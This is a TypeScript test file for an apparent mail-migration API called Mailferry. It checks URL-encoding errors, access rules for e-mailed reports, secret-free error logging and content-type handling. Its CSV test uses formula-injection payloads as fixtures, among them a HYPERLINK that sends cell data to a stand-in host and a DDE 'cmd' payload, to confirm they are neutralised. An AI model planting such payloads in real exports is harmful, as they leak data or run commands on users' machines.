import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import type { Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { HttpRequest, InvocationContext } from '@azure/functions';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { zeroCounts } from '../../api/core/counts.js';
import type { EngineLog } from '../../api/core/engine/job-context.js';
import type { AzureHost } from '../../api/functions/azure-host.js';
import { createHttpHandler } from '../../api/functions/http-handler.js';
import { EntraAuthenticator } from '../../api/http/auth/entra-authenticator.js';
import { LocalAdminAuthenticator } from '../../api/http/auth/local-admin-authenticator.js';
import { EmbeddedRuntime, LOCAL_TENANT } from '../../api/local/embedded-runtime.js';
import { startHttpServer } from '../../api/local/http-server.js';
import { startTestIssuer, TEST_AUDIENCE, type TestIssuer } from '../support/test-issuer.js';
import { rawRequest } from './raw-http.js';
import { text } from '../support/json-answer.js';

const QUIET: EngineLog = { info: () => {}, warn: () => {}, error: () => {} };
const SECRET = 'Admin-Pa55word-never-logged';
const ENDPOINT = {
  name: 'Source',
  kind: 'imap',
  host: 'imap.contoso.test',
  adminMode: 'login-star',
  adminLogin: 'admin',
  adminPassword: SECRET,
};

interface Logged {
  level: string;
  message: string;
  fields?: Record<string, unknown>;
}
const capture = (into: Logged[]): EngineLog => ({
  info: (message, fields) => into.push({ level: 'info', message, fields }),
  warn: (message, fields) => into.push({ level: 'warn', message, fields }),
  error: (message, fields) => into.push({ level: 'error', message, fields }),
});
const json = (body: unknown) => ({ headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });

/** Issue 10 #13: the smaller holes of the HTTP edge, each over real HTTP (or the real Functions handler). */
describe('server errors, path encoding and the statistics report', () => {
  const dirs: string[] = [];
  const tempDir = () => {
    const dir = mkdtempSync(join(tmpdir(), 'mailferry-edge13-'));
    dirs.push(dir);
    return dir;
  };
  afterAll(() => {
    for (const dir of dirs) rmSync(dir, { recursive: true, force: true });
  });

  describe('on the embedded host', () => {
    let runtime: EmbeddedRuntime;
    let server: Server;
    let base: string;
    let projectId: string;
    const api = (method: string, path: string, body?: unknown) => {
      const { headers, body: text } = body === undefined ? { headers: {}, body: undefined } : json(body);
      return rawRequest(base, method, `/api/v1${path}`, headers, text);
    };

    beforeAll(async () => {
      runtime = await EmbeddedRuntime.open({ dataDir: tempDir(), log: QUIET });
      ({ server, url: base } = await startHttpServer(runtime.services, { port: 0, log: QUIET }));
      const endpoint = await api('POST', '/endpoints', ENDPOINT);
      projectId = text(
        (await api('POST', '/projects', { name: 'Report', sourceEndpointId: endpoint.json.id, destinationEndpointId: endpoint.json.id }))
          .json.id,
      );
      for (const user of ['tab', 'cr', 'eq'])
        await api('POST', `/projects/${projectId}/items`, {
          sourceAddress: `${user}@contoso.test`,
          destinationAddress: `${user}@fabrikam.test`,
        });
    });
    afterAll(async () => {
      await new Promise((resolve) => server.close(resolve));
      await runtime.close();
    });

    it('answers a path with bad %-encoding with a 400 that names the segment', async () => {
      for (const path of ['/projects/%E0%A4%A', '/items/%', '/passes/abc%ZZ']) {
        const res = await api('GET', path);
        expect(res.status, path).toBe(400);
        expect(res.json.detail).toContain('is not valid %-encoding');
      }
      expect((await api('GET', '/projects/%E0%A4%A')).json.field).toBe('projectId');
    });

    it('neutralises CSV cells that start with TAB or CR as well as = + - @ (reasons come from mail servers)', async () => {
      const reasons: Record<string, string> = {
        tab: '\t=HYPERLINK("http://evil.test/?"&A1,"Details")',
        cr: '\r=1+1',
        eq: "=cmd|'/c calc'!A0",
      };
      for (const item of (await runtime.store.items.list(LOCAL_TENANT, { where: { projectId } })).items) {
        const reason = reasons[item.sourceAddress.split('@')[0]!]!;
        await runtime.store.items.replace({ ...item, lastRun: { ...zeroCounts(), passId: 'p1', kind: 'full', status: 'Failed', reason } });
      }
      const csv = (await api('GET', `/projects/${projectId}/statistics?format=csv`)).text;
      expect(csv).toContain(`"'\t=HYPERLINK(""http://evil.test/?""&A1,""Details"")"`);
      expect(csv).toContain(`"'\r=1+1"`);
      expect(csv).toContain(`'=cmd|'/c calc'!A0`);
      expect(csv).not.toMatch(/(^|,)"?[\t\r]=/m);
    });

    it("e-mails the statistics report to an address in one of the project's domains only", async () => {
      const outside = await api('POST', `/projects/${projectId}/statistics/email`, { to: 'someone@gmail.test' });
      expect(outside.status).toBe(400);
      expect(outside.json.field).toBe('to');
      expect(outside.json.detail).toContain("only to an address in one of this project's domains (contoso.test, fabrikam.test)");
      expect(outside.json.detail).toContain('download the CSV');
      const inside = await api('POST', `/projects/${projectId}/statistics/email`, { to: 'IT-Team@Fabrikam.test' });
      expect(inside.status).toBe(202);
    });
  });

  describe('a server error (500) is logged with its cause, never with the secrets of the request', () => {
    let broken: EmbeddedRuntime;

    beforeAll(async () => {
      // A store that fails underneath every request: the database closed as a lost disk would.
      broken = await EmbeddedRuntime.open({ dataDir: tempDir(), log: QUIET });
      await broken.close();
    });

    const expectLogged = (logged: Logged[], prefix = '') => {
      expect(logged).toHaveLength(1);
      expect(logged[0]).toMatchObject({
        level: 'error',
        message: expect.stringMatching(new RegExp(`^${prefix}POST /api/v1/endpoints answered 500: \\S`)),
      });
      expect(String(logged[0]!.fields?.stack)).toMatch(/\n\s+at /);
      expect(JSON.stringify(logged)).not.toContain(SECRET);
    };

    it('on the embedded host', async () => {
      const logged: Logged[] = [];
      const { server, url } = await startHttpServer(broken.services, { port: 0, log: capture(logged) });
      try {
        const { headers, body } = json(ENDPOINT);
        const res = await rawRequest(url, 'POST', '/api/v1/endpoints', headers, body);
        expect(res.status).toBe(500);
        expect(res.json.detail).toBe('Mailferry hit an unexpected error; the server log has the details.');
        expectLogged(logged);
      } finally {
        await new Promise((resolve) => server.close(resolve));
      }
    });

    it('on the Azure Functions host', async () => {
      const logged: Logged[] = [];
      const context = new InvocationContext({
        functionName: 'api',
        logHandler: (level, ...args) => logged.push({ level, message: String(args[0]), fields: args[1] as Record<string, unknown> }),
      });
      const handler = createHttpHandler(
        async () => ({ services: broken.services, authenticator: new LocalAdminAuthenticator() }) as unknown as AzureHost,
      );
      const { headers, body } = json(ENDPOINT);
      const res = await handler(
        new HttpRequest({ method: 'POST', url: 'https://mailferry.azurewebsites.net/api/v1/endpoints', headers, body: { string: body } }),
        context,
      );
      expect(res.status).toBe(500);
      expectLogged(logged, 'Mailferry API: ');
    });
  });

  it('the Azure Functions host reads JSON routes only as application/json', async () => {
    const runtime = await EmbeddedRuntime.open({ dataDir: tempDir(), log: QUIET });
    try {
      const handler = createHttpHandler(
        async () => ({ services: runtime.services, authenticator: new LocalAdminAuthenticator() }) as unknown as AzureHost,
      );
      const call = (type: string, body: string) =>
        handler(
          new HttpRequest({
            method: 'POST',
            url: 'https://mailferry.azurewebsites.net/api/v1/endpoints',
            headers: { 'content-type': type },
            body: { string: body },
          }),
          new InvocationContext(),
        );
      for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'text/csv']) {
        const res = await call(type, type === 'application/x-www-form-urlencoded' ? 'name=x&kind=imap' : JSON.stringify(ENDPOINT));
        expect(res.status, type).toBe(415);
        expect(JSON.parse(String(res.body)).detail).toContain('application/json');
      }
      expect((await call('application/json; charset=utf-8', JSON.stringify(ENDPOINT))).status).toBe(201);
    } finally {
      await runtime.close();
    }
  });

  describe('who may e-mail the statistics report', () => {
    const TENANT = '33333333-3333-3333-3333-333333333333';
    let issuer: TestIssuer;
    let runtime: EmbeddedRuntime;
    let server: Server;
    let base: string;
    let dataDir: string;
    let projectId: string;
    const tokens: Record<string, string> = {};
    const api = (who: string, method: string, path: string, body?: unknown) => {
      const { headers, body: text } = body === undefined ? { headers: {}, body: undefined } : json(body);
      return rawRequest(base, method, `/api/v1${path}`, { ...headers, authorization: `Bearer ${tokens[who]}` }, text);
    };

    beforeAll(async () => {
      issuer = await startTestIssuer();
      dataDir = tempDir();
      runtime = await EmbeddedRuntime.open({ dataDir, log: QUIET, tenantOwners: new Map([[TENANT, ['olga-oid']]]) });
      const authenticator = new EntraAuthenticator({ audiences: [TEST_AUDIENCE], jwksUri: issuer.jwksUri, allowedTenants: [TENANT] });
      ({ server, url: base } = await startHttpServer(runtime.services, { port: 0, authenticator, log: QUIET }));
      tokens.owner = await issuer.mint({ tid: TENANT, oid: 'olga-oid', name: 'Olga' });
      tokens.viewer = await issuer.mint({ tid: TENANT, oid: 'vic-oid', name: 'Vic' });
      const endpoint = await api('owner', 'POST', '/endpoints', ENDPOINT);
      projectId = text(
        (
          await api('owner', 'POST', '/projects', {
            name: 'Shared',
            sourceEndpointId: endpoint.json.id,
            destinationEndpointId: endpoint.json.id,
          })
        ).json.id,
      );
      await api('owner', 'POST', `/projects/${projectId}/items`, {
        sourceAddress: 'ann@contoso.test',
        destinationAddress: 'ann@fabrikam.test',
      });
    });
    afterAll(async () => {
      await new Promise((resolve) => server.close(resolve));
      await runtime.close();
      await issuer.close();
    });

    it('needs run access: a user the project is shared with for viewing cannot send it, one with run can', async () => {
      await api('owner', 'PUT', `/projects/${projectId}/sharing`, { sharedWith: [{ userId: 'vic-oid', access: 'view' }] });
      expect((await api('viewer', 'GET', `/projects/${projectId}/statistics`)).status).toBe(200);
      const viewing = await api('viewer', 'POST', `/projects/${projectId}/statistics/email`, { to: 'vic@contoso.test' });
      expect(viewing.status).toBe(403);
      expect(existsSync(join(dataDir, 'outbox'))).toBe(false);

      await api('owner', 'PUT', `/projects/${projectId}/sharing`, { sharedWith: [{ userId: 'vic-oid', access: 'run' }] });
      const running = await api('viewer', 'POST', `/projects/${projectId}/statistics/email`, { to: 'vic@contoso.test' });
      expect(running.status).toBe(202);
      expect((await api('viewer', 'POST', `/projects/${projectId}/statistics/email`, { to: 'vic@elsewhere.test' })).status).toBe(400);
      const outbox = join(dataDir, 'outbox');
      expect(
        readdirSync(outbox)
          .map((file) => readFileSync(join(outbox, file), 'utf8'))
          .filter((eml) => eml.includes('To: vic@contoso.test')),
      ).toHaveLength(1);
      expect(readdirSync(outbox)).toHaveLength(1);
    });
  });
});
